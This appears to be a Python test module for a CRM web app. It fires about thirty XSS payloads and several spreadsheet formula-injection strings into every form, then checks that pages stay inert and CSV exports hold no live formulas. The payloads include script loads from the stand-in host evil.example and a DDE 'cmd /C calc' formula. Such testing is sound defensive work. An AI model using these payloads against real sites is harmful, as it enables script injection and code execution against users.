"""Words that would be code: 30 payloads in every field, looked for on every page; formulas in downloads."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import sqlalchemy as sa

from bench.attack.browser import Browser
from bench.attack.ground import Ground
from bench.attack.outcomes import Outcome
from crm.models import Booking, Lead, Offer
from crm.rules.roles import Role
from crm.web.access import PUBLIC
from tests.web.routes import routes

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<math><mtext></mtext></math>",
    "<form action=//evil.example><button>x", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example'</style>",
    "<object data=//evil.example></object>", "<embed src=//evil.example>", '"><script>alert(1)</script>',
    "' onmouseover=alert(1) x='", '" onfocus=alert(1) autofocus="', "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>", "{{7*7}}<%= 7*7 %>${7*7}",
    "<img hx-on:load=alert(1) hx-get=//evil.example hx-trigger=load src=x>", "[x](javascript:alert(1))",
)  # fmt: skip
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A",
    "=cmd|' /C calc'!A0",
)
LIVE = re.compile(r"[=+@＝＋－＠\t\r]|-\D|-\d+[^\d.]")  # a negative number of a report is none
HANDLER = re.compile(r"^(on|hx-on)", re.IGNORECASE)
LEADS = {"href", "src", "action", "formaction", "data", "hx-get", "hx-post"}
SCHEMES = ("javascript:", "data:text", "vbscript:")
NEVER = {"object", "embed", "math"}


class Alive(HTMLParser):
    """What of a page would run, or fetch from elsewhere, or was never written by us."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        where_to = tag == "base" and "href" in given  # our own only says that links open beside
        if tag in NEVER or where_to or (tag == "script" and not given.get("src", "").startswith("/static/")):
            self.found.append(f"<{tag}>")
        for name, value in given.items():
            leads = name in LEADS and re.sub(r"\s", "", value).lower().startswith((*SCHEMES, "//"))
            if HANDLER.match(name) or name == "srcdoc" or leads:
                self.found.append(f"<{tag} {name}={value[:40]}>")
            if name in LEADS and "evil.example" in value and value.startswith(("http", "//")):
                self.found.append(f"<{tag} {name}={value[:40]}>")


def attacks(laid: Ground) -> Iterator[Outcome]:
    owner = laid.browser(Role.OWNER)
    token = owner.token()
    yield _planted(laid, owner, token)
    yield _inert(laid, owner)
    yield _formulas(owner, token)


def _planted(laid: Ground, owner: Browser, token: str) -> Outcome:
    """By the ways people have: the public form, and the forms of the person's page."""
    outcome = Outcome(
        "XSS",
        f"{len(PAYLOADS)} payloads sent into every field, of own pages too: stored or refused, never a fault",
    )
    stranger = laid.stranger()
    found = re.search(r'name="token"[^>]*value="([^"]*)"', stranger.get("/consultation").text)
    form = found[1] if found else ""
    for number, payload in enumerate((*PAYLOADS, *FORMULAS)):
        typed = dict.fromkeys(
            ("name", "message", "found_us", "free_times", "phone", "page", "article", "button"), payload
        )
        typed |= {"token": form, "email": f"x{number}@example.org", "phone": f"+1 213 555 {number:04}"}
        answer = stranger.post("/consultation", typed)
        outcome.tried(f"the form: {payload}", held=answer.status in (303, 422), answered=answer.status)
        for address, fields in _forms(3 + number, payload).items():
            answer = owner.post(address, fields | {"csrf_token": token})
            outcome.tried(f"{address}: {payload}", held=answer.status < 500, answered=answer.status)
        for address, fields in _own_forms(laid, 3 + number, payload).items():
            answer = stranger.post(address, fields)
            outcome.tried(
                f"{address}: {payload}", held=answer.status in (200, 303, 422, 429), answered=answer.status
            )
    return outcome


def _own_forms(laid: Ground, lead_id: int, payload: str) -> dict[str, dict[str, str]]:
    """What somebody can say on pages of their own."""
    with laid.reading() as session:
        token = session.scalar(sa.select(Lead.page_token).where(Lead.id == lead_id))
    return {
        f"/call/{token}": {"answer": "not_now", "message": payload},
        f"/call/{token}/details": {"name": payload},
        f"/call/{token}/wishes": {"message": payload, "words": payload},
    }


def _own_pages(laid: Ground) -> set[str]:
    """Every page that somebody has without an account."""
    with laid.reading() as session:
        people = session.execute(sa.select(Lead.page_token, Lead.unsubscribe_token)).all()
        calls = session.scalars(sa.select(Booking.token)).all()
        places = session.scalars(sa.select(Offer.token)).all()
    own = {
        f"/call/{page}{more}"
        for page, _ in people
        for more in ("", "/details", "/times", "/wishes", "/thanks")
    }
    return (
        own
        | {f"/stop/{stop}" for _, stop in people}
        | {*(f"/booking/{each}" for each in calls), *(f"/place/{each}" for each in places), "/consultation"}
    )


def _forms(lead_id: int, payload: str) -> dict[str, dict[str, str]]:
    here = f"/people/{lead_id}"
    words = {"words": payload, "subject": payload, "result": "spoke", "kind": "note", "moment": "tomorrow"}
    return {
        **{f"{here}/{what}": words for what in ("notes", "calls", "reminder", "draft", "replies")},
        f"{here}/tags": {"tag": payload},
        f"{here}/contact": {"name": payload, "email": f"y{lead_id}@example.org", "found_us": payload,
                            "looking_for": payload, "free_times": payload, "prefers": payload},
        "/people/views": {"name": payload, "query": f"q={payload}", "whose": "everyone"},
        "/follow-ups/emails": {"subject": payload, "preview": payload, "body": payload},
        "/follow-ups/sequences": {"name": payload},
        f"{here}/referral": {"words": payload, "subject": payload, "wanted": payload, "to": "1"},
        "/waitlist/place": {"words": payload, "clinician": "1", "count": "1", "hours": "48",
                                   "people": str(lead_id), "nonce": f"{lead_id:032x}"},
        "/settings/colleagues": dict.fromkeys(("name", "focus", "payers", "fees", "notes"), payload),
        "/settings/calls/ways": dict.fromkeys(("video_link", "address", "instructions"), payload),
        "/settings/practice": {"name": payload, "signer": payload, "locality": payload, "zone_name": "UTC"},
    }  # fmt: skip


def _inert(laid: Ground, owner: Browser) -> Outcome:
    outcome = Outcome(
        "XSS", "every page, fragment, letter and search of the practice that is full of them is inert"
    )
    many = range(1, 4 + len(PAYLOADS))
    addresses = {
        each.address.replace("/1", f"/{number}", 1)
        for each in routes(laid.house.app)
        if each.method == "GET" and each.endpoint not in PUBLIC
        for number in (many if "/people/1" in each.address else (1, 2, 3, 40))
    }
    lists = ("/people/find?q=", "/people?view=list&q=", "/people/new?name=", "/follow-ups/sent?q=")
    sought = {f"{page}{_quoted(payload)}" for payload in PAYLOADS for page in lists}
    for address in sorted(addresses | sought | _own_pages(laid)):
        for headers in ({}, {"HX-Request": "true"}):
            answer = owner.get(address, headers)
            page = Alive()
            if "html" in answer.headers.get("Content-Type", ""):
                page.feed(answer.text)
            outcome.tried(
                address, held=not page.found and answer.status < 500, answered=page.found or answer.status
            )
    return outcome


def _formulas(owner: Browser, token: str) -> Outcome:
    outcome = Outcome(
        "CSV", "no cell of a download begins a formula, and every row is as wide as the first (R37)"
    )
    people = owner.post("/people/sweeps/export", {"csrf_token": token, "everyone": "1", "query": ""}).text
    for name, text in (("people", people), ("reports", owner.get("/reports.csv").text)):
        table = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        for line in table:
            wide = name == "reports" or len(line) == len(table[0])
            live = [cell for cell in line if LIVE.match(cell)]
            outcome.tried(f"{name}: {line[:2]}", held=wide and not live, answered=live)
    return outcome


def _quoted(payload: str) -> str:
    return "".join(f"%{byte:02x}" for byte in payload.encode())
